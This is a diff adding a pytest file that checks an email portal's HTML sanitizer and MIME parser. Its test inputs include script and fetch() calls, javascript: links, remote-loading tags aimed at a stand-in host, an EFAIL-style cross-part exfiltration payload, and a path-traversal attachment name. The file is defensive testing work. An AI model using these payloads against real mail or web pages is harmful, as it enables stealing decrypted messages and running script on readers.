@@ -1,0 +1,146 @@
+"""What the secure page shows of a message: sanitized HTML, the right body, safe file names.
+
+Threat: a message (written by anyone who can mail a hosted user and then be
+forwarded, or by a careless sender) whose HTML loads remote content, runs
+script, submits a form, redirects, or smuggles markup across MIME parts (EFAIL's
+direct exfiltration), all on the portal's origin, where the decrypted message is.
+"""
+
+from __future__ import annotations
+
+import email.policy
+from email.message import EmailMessage
+
+import pytest
+
+from gateway.securepage import content
+
+EVIL = "http://evil.example"
+
+
+@pytest.mark.parametrize(
+    "html",
+    [
+        f'<img src="{EVIL}/a.png">',
+        f'<img srcset="{EVIL}/a.png 1x">',
+        f'<div style="background:url({EVIL}/b.png)">x</div>',
+        f"<style>body{{background:url({EVIL}/c.png)}}</style>",
+        f'<link rel="stylesheet" href="{EVIL}/d.css">',
+        f'<form action="{EVIL}/f"><input name="q"><button>go</button></form>',
+        f'<meta http-equiv="refresh" content="0;url={EVIL}/r">',
+        f'<iframe src="{EVIL}/i"></iframe>',
+        f'<object data="{EVIL}/o"></object><embed src="{EVIL}/e">',
+        f'<video poster="{EVIL}/v.png"></video><audio src="{EVIL}/a.mp3"></audio>',
+        f'<svg><image href="{EVIL}/s.png"/></svg>',
+        f'<table background="{EVIL}/t.png"><tr><td>x</td></tr></table>',
+        f'<body background="{EVIL}/bg.png">x</body>',
+        f'<script src="{EVIL}/s.js"></script><script>fetch("{EVIL}")</script>',
+        f"<a href=\"javascript:fetch('{EVIL}')\">x</a>",
+        f'<a href="{EVIL}/ok" ping="{EVIL}/ping">x</a>',
+        f"<p onmouseover=\"fetch('{EVIL}')\">x</p>",
+        f'<base href="{EVIL}/">',
+        f'<img src="{EVIL}/efail?',
+    ],
+)
+def test_nothing_that_loads_or_runs_survives(html: str) -> None:
+    cleaned = content.sanitize_html(html)
+    lowered = cleaned.lower()
+    for marker in (
+        "<img",
+        "<style",
+        "style=",
+        "<link",
+        "<form",
+        "<input",
+        "<meta",
+        "<iframe",
+        "<object",
+        "<embed",
+        "<video",
+        "<audio",
+        "<svg",
+        "<image",
+        "background",
+        "<script",
+        "javascript:",
+        "ping=",
+        "onmouseover",
+        "<base",
+        "srcset",
+    ):
+        assert marker not in lowered, (marker, cleaned)
+    # A link may stay (clicking is the reader's choice), never anything fetched by itself.
+    assert EVIL not in cleaned or cleaned.count(EVIL) == cleaned.count(f'href="{EVIL}/ok"')
+
+
+def test_links_get_noopener_noreferrer() -> None:
+    cleaned = content.sanitize_html('<a href="https://example.org/x" target="_blank">x</a>')
+    assert cleaned == '<a href="https://example.org/x" rel="noopener noreferrer">x</a>'
+
+
+def message(*parts: tuple[str, str, str | None]) -> bytes:
+    """multipart/mixed of (subtype, text, disposition) text parts, plus headers."""
+    msg = EmailMessage()
+    msg["From"] = "Alice <alice@example.test>"
+    msg["To"] = "carol@elsewhere.example"
+    msg["Cc"] = "dan@elsewhere.example"
+    msg["Subject"] = "Grüße"
+    msg["Message-ID"] = "<m1@example.test>"
+    msg.set_content("plain body\n")
+    msg.add_alternative("<p>html <b>body</b></p>", subtype="html")
+    for subtype, text, disposition in parts:
+        msg.add_attachment(text, subtype=subtype, disposition=disposition or "inline")
+    return msg.as_bytes(policy=email.policy.SMTP)
+
+
+def test_html_is_preferred_and_each_part_is_cleaned_on_its_own() -> None:
+    raw = message(("html", f'<p>one</p><img src="{EVIL}/efail?', None), ("html", '">two', None))
+    page = content.parse(raw)
+    assert [b.kind for b in page.bodies] == ["html", "html", "html"]
+    assert page.bodies[0].content.strip() == "<p>html <b>body</b></p>"
+    joined = "".join(b.content for b in page.bodies)
+    assert "<img" not in joined and EVIL not in joined
+    assert page.bodies[2].content.strip() == '"&gt;two'  # the closing half stays inert text
+    assert (page.sender, page.to, page.cc, page.subject) == (
+        "Alice <alice@example.test>",
+        "carol@elsewhere.example",
+        "dan@elsewhere.example",
+        "Grüße",
+    )
+    assert page.message_id == "<m1@example.test>"
+
+
+def test_attachments_are_numbered_named_safely_and_returned_byte_for_byte() -> None:
+    msg = EmailMessage()
+    msg["Subject"] = "files"
+    msg.set_content("see files\n")
+    msg.add_attachment(b"\x00\x01pdf", maintype="application", subtype="pdf", filename="a.pdf")
+    msg.add_attachment(
+        b"evil", maintype="application", subtype="octet-stream", filename="../../etc/passwd"
+    )
+    msg.add_attachment(
+        b"ctl", maintype="application", subtype="octet-stream", filename="bad\u202ename\r\n.txt"
+    )
+    inner = EmailMessage()
+    inner["Subject"] = "forwarded"
+    inner.set_content("inner body\n")
+    msg.add_attachment(inner)
+    raw = msg.as_bytes(policy=email.policy.SMTP)
+    page = content.parse(raw)
+    assert [(a.index, a.filename) for a in page.attachments] == [
+        (0, "a.pdf"),
+        (1, "passwd"),
+        (2, "badname.txt"),
+        (3, "message.eml"),
+    ]
+    found = content.attachment(raw, 0)
+    assert found is not None and found[1] == b"\x00\x01pdf"
+    forwarded = content.attachment(raw, 3)
+    assert forwarded is not None and b"inner body" in forwarded[1]
+    assert content.attachment(raw, 4) is None and content.attachment(raw, -1) is None
+
+
+def test_a_malformed_message_id_is_not_used_for_threading() -> None:
+    raw = b"Subject: x\r\nMessage-ID: <a b>\r\n\r\nbody\r\n"
+    assert content.parse(raw).message_id == ""
+    assert content.parse(raw).bodies[0].content.strip() == "body"
